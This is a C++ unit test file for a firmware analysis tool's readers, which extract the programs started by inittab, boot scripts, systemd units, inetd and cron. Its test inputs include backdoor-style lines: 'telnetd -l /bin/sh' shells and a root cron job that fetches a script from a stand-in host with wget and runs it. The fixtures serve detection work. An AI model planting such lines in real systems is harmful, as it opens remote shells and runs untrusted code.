#include "readers/started.h"

#include "readers/reader_test.h"

namespace assay::readers {
extern const Reader boot_scripts;
extern const Reader cron;
extern const Reader inetd;
extern const Reader inittab;
extern const Reader systemd_units;
namespace {

using Rows = std::vector<std::string>;

TEST(Started, LooksThroughWrappers) {
  Rows rows;
  for (const Start& start : starts_of_line(
           "start-stop-daemon -S -b -x /usr/sbin/telnetd -- -l /bin/sh; nice -n 5 nohup a b\n"
           "start-stop-daemon -K -x /usr/sbin/x; procd_set_param command /usr/sbin/dropbear -F\n"
           "procd_set_param respawn; echo telnetd; $UNKNOWN -d; -/bin/sh; /bin/busybox ftpd &"))
    rows.push_back(start.program + "|" + start.arguments);
  EXPECT_EQ(rows, (Rows{"/usr/sbin/telnetd|-l /bin/sh", "a|b", "/usr/sbin/dropbear|-F", "/bin/sh|",
                        "/bin/busybox|ftpd"}));
}

TEST(Started, FromInittab) {
  const std::string text =
      "::sysinit:/etc/init.d/rcS S boot\n# ::respawn:/bin/no\nttyS0::askfirst:-/bin/sh\n"
      "::off:/bin/no\n1:2345:respawn:/sbin/getty 38400 tty1\n";
  const auto facts = facts_of_file(inittab, "squashfs/etc/inittab", text);
  EXPECT_EQ(columns(facts, {"program", "arguments", "trigger", "position", "line"}),
            (Rows{"/etc/init.d/rcS|S boot|sysinit|1|1", "/bin/sh||askfirst|2|3",
                  "/sbin/getty|38400 tty1|respawn|3|5"}));
  torture_file(inittab, "inittab", text);
}

std::vector<Fact> of_table(std::vector<Fact> facts, std::string_view table) {
  std::erase_if(facts, [&](const Fact& fact) { return fact.table != table; });
  return facts;
}

TEST(Started, LooksThroughTextsAndShells) {
  Rows rows;
  for (const Start& start : starts_of_line(
           "sh -c 'a -b; c'; sh -x /etc/x.sh up; eval \"d e\"; su - ftp -c 'f g'; env -i A=1 h "
           "i\n"
           "chpst -u nobody:nogroup j; sudo -u web k; timeout 5 l; bash --login; su\n"
           "start-stop-daemon -S -c www:www -x /m; $DIR/n -o; $DIR; ${X}; /etc/rc.d/S$1"))
    rows.push_back(start.program + "|" + start.arguments + "|" + start.user);
  EXPECT_EQ(rows,
            (Rows{"a|-b|", "c||", "/etc/x.sh|up|", "d|e|", "f|g|ftp", "h|i|", "j||nobody:nogroup",
                  "k||web", "l||", "bash|--login|", "su||", "/m||www", "$DIR/n|-o|"}));
}

TEST(Started, FromLoopsVariablesAndOtherScripts) {
  const std::string text =
      "#!/bin/sh\n. $ROOT/lib/functions.sh\nPATH=$PATH:/opt/bin\nexport PATH\n"
      "for i in /etc/init.d/S??*; do\n  [ -f \"$i\" ] || continue\n  $i start\ndone\n"
      "if a; then P=/sbin/x; else P=/sbin/y; fi\n$P -d\nsetup() { z; }\n";
  const auto facts = facts_of_file(boot_scripts, "sbin/launch", text);
  EXPECT_EQ(columns(of_table(facts, "started"),
                    {"program", "arguments", "pattern", "mechanism", "condition", "function"}),
            (Rows{"/etc/init.d/S??*|start|/etc/init.d/S??*|script|-|-", "a||-|script|-|-",
                  "/sbin/x|-d|-|script|-|-", "/sbin/y|-d|-|script|-|-", "z||-|script|-|setup"}));
  EXPECT_EQ(columns(of_table(facts, "script_call"), {"kind", "target", "pattern"}),
            (Rows{"source|$ROOT/lib/functions.sh|*/lib/functions.sh", "path|/opt/bin|-"}));
  torture_file(boot_scripts, "sbin/launch", text);
  EXPECT_TRUE(facts_of_file(boot_scripts, "sbin/prog",
                            "\x7f"
                            "ELF/bin/sh\n")
                  .empty());
  EXPECT_TRUE(facts_of_file(boot_scripts, "etc/text", "telnetd\n").empty());
}

TEST(Started, FromSubstitutionsAndHereDocuments) {
  const auto facts =
      facts_of_file(boot_scripts, "etc/init.d/S50x",
                    "#!/bin/sh\nID=$(/usr/bin/getid -n `hostid`)\nif [ -e /x ]; then\n"
                    "  sh <<E\ntelnetd -l /bin/sh\nE\nfi\ncat <<'E' > /tmp/note\nftpd\nE\n");
  EXPECT_EQ(columns(of_table(facts, "started"), {"program", "arguments", "condition", "line"}),
            (Rows{"/usr/bin/getid|-n `hostid`|-|2", "hostid||-|2", "sh||[ -e /x ]|4",
                  "telnetd|-l /bin/sh|[ -e /x ]|5"}));
}

TEST(Started, LeavesOutWhatStopsOrRestarts) {
  const auto programs = [](std::string_view text) {
    return columns(of_table(facts_of_file(boot_scripts, "etc/init.d/x", text), "started"),
                   {"program"});
  };
  EXPECT_EQ(programs("case \"$1\" in\n start) a ;;\n stop|reload) b ;;\n restart) c;;\n "
                     "start|restart) d;;\n *) e;;\nesac\n"),
            (Rows{"a", "d", "e"}));
  EXPECT_EQ(programs("if [ \"$1\" = \"start\" ]; then a; else b; fi\n[ $1 = stop ] && c\n"),
            Rows{"a"});
  const auto calls = of_table(facts_of_file(boot_scripts, "etc/init.d/y",
                                            "#!/bin/sh /etc/rc.common\nstart() { a; }\nboot() { "
                                            "start; }\nstop() { b; }\n"),
                              "script_call");
  EXPECT_EQ(columns(calls, {"target", "function"}), (Rows{"boot|-", "start|-", "start|boot"}));
}

TEST(Started, FromBootScripts) {
  const std::string text =
      "#!/bin/sh\nmkdir /var/run\nT=/usr/sbin/telnetd\nif [ -f /etc/debug ]; then\n  $T -l /bin/sh "
      "&\n"
      "fi\nhttpd\nstart() {\n  dropbear -R\n}\nstop_service() { rmmod x; }\nstart; config_load "
      "x\n[ -x /a ] && /a -d\n";
  const auto all = facts_of_file(boot_scripts, "rootfs/etc_ro/rcS", text);
  EXPECT_EQ(columns(of_table(all, "script_call"), {"kind", "target", "function", "line"}),
            Rows{"function|start|-|12"});
  EXPECT_EQ(columns(of_table(all, "shell_function"), {"name"}), (Rows{"start", "stop_service"}));
  const auto facts = of_table(all, "started");
  EXPECT_EQ(columns(facts, {"program", "arguments", "mechanism", "trigger", "condition", "line"}),
            (Rows{"/usr/sbin/telnetd|-l /bin/sh|rc|rcS|[ -f /etc/debug ]|5", "httpd||rc|rcS|-|7",
                  "dropbear|-R|rc|rcS start()|-|9", "/a|-d|rc|rcS|[ -x /a ]|13"}));
  torture_file(boot_scripts, "etc/rcS", text);
}

TEST(Started, TellsScriptsOfABootFromThoseThatNeedALink) {
  const auto mechanism = [](std::string_view path) {
    const auto facts = facts_of_file(boot_scripts, path, "httpd\n");
    return facts.empty() ? std::string() : column(facts[0], "mechanism");
  };
  for (const auto path : {"etc/rc.d/S50httpd", "etc/init.d/rcS", "etc/rc.local", "etc/rcS.d/S1x0",
                          "etc/rc.d/rc.sysinit", "etc/init.d/S20urandom"})
    EXPECT_EQ(mechanism(path), std::string_view(path) == "etc/rcS.d/S1x0" ? "init.d" : "rc")
        << path;
  EXPECT_EQ(mechanism("etc/init.d/httpd"), "init.d");
  for (const auto path : {"etc/rc.d/K50httpd", "etc/rc.conf", "usr/bin/httpd", "etc/rcS/x"})
    EXPECT_EQ(mechanism(path), "") << path;
}

TEST(Started, FromSystemd) {
  const std::string text =
      "[Unit]\nConditionPathExists=/etc/x\n[Service]\nUser=ftp\nExecStart=-/usr/sbin/vsftpd "
      "/etc/vsftpd.conf\n[Install]\nWantedBy=multi-user.target\n";
  const auto facts = facts_of_file(systemd_units, "lib/systemd/system/vsftpd.service", text);
  EXPECT_EQ(columns(facts, {"program", "arguments", "user", "trigger", "condition", "line"}),
            Rows{"/usr/sbin/vsftpd|/etc/vsftpd.conf|ftp|multi-user.target|ConditionPathExists=/etc/"
                 "x|5"});
  EXPECT_TRUE(facts_of_file(systemd_units, "usr/share/x.service", text).empty());
  torture_file(systemd_units, "lib/systemd/system/x.service", text);
}

TEST(Started, FromSystemdSocketsTimersAndTargets) {
  const std::string text =
      "[Unit]\nWants=a.service b.socket\n[Socket]\nListenStream=0.0.0.0:2323\nListenStream=/run/x\n"
      "ListenDatagram=69\n";
  const auto facts = facts_of_file(systemd_units, "etc/systemd/system/x.socket", text);
  EXPECT_EQ(columns(of_table(facts, "script_call"), {"kind", "target"}),
            (Rows{"unit|a.service", "unit|b.socket", "unit|x.service"}));
  EXPECT_EQ(columns(of_table(facts, "listener"), {"protocol", "address", "port", "program"}),
            (Rows{"tcp|0.0.0.0|2323|x.socket", "udp|-|69|x.socket"}));
  torture_file(systemd_units, "etc/systemd/system/x.socket", text);
}

TEST(Started, FromInetd) {
  const std::string text =
      "telnet stream tcp nowait root /usr/sbin/tcpd in.telnetd -l\n#ftp stream tcp nowait root x "
      "x\n"
      "tftp dgram udp wait nobody /bin/busybox tftpd /srv\ndaytime stream tcp nowait root "
      "internal\n";
  EXPECT_EQ(columns(of_table(facts_of_file(inetd, "etc/inetd.conf", text), "listener"),
                    {"port", "service", "program"}),
            (Rows{"23|telnet|in.telnetd", "69|tftp|/bin/busybox", "13|daytime|internal"}));
  EXPECT_EQ(columns(of_table(facts_of_file(inetd, "etc/inetd.conf", text), "started"),
                    {"program", "arguments", "user", "trigger"}),
            (Rows{"in.telnetd|-l|root|telnet stream tcp",
                  "/bin/busybox|tftpd /srv|nobody|tftp dgram "
                  "udp",
                  "internal||root|daytime stream tcp"}));
  torture_file(inetd, "etc/inetd.conf", text);
  const std::string block =
      "service shell\n{\n socket_type = stream\n user = root\n server = /usr/sbin/in.rshd\n"
      " server_args = -h\n}\nservice telnet\n{\n disable = yes\n server = /x\n}\n";
  EXPECT_EQ(columns(facts_of_file(inetd, "etc/xinetd.d/rsh", block),
                    {"program", "arguments", "user", "trigger", "line"}),
            Rows{"/usr/sbin/in.rshd|-h|root|shell stream |1"});
  torture_file(inetd, "etc/xinetd.d/rsh", block);
}

TEST(Started, FromCron) {
  const std::string user = "*/5 * * * * wget -q http://h/u.sh -O /tmp/u && sh /tmp/u\n@reboot /x\n";
  EXPECT_EQ(columns(facts_of_file(cron, "etc/crontabs/root", user),
                    {"program", "arguments", "user", "trigger", "line"}),
            (Rows{"wget|-q http://h/u.sh -O /tmp/u|root|*/5 * * * *|1",
                  "/tmp/u||root|*/5 * * * *|1", "/x||root|@reboot|2"}));
  EXPECT_EQ(columns(facts_of_file(cron, "etc/crontab", "1 2 * * * bin /usr/bin/y -z\n"),
                    {"program", "arguments", "user"}),
            Rows{"/usr/bin/y|-z|bin"});
  torture_file(cron, "etc/crontabs/root", user);
}

}  // namespace
}  // namespace assay::readers
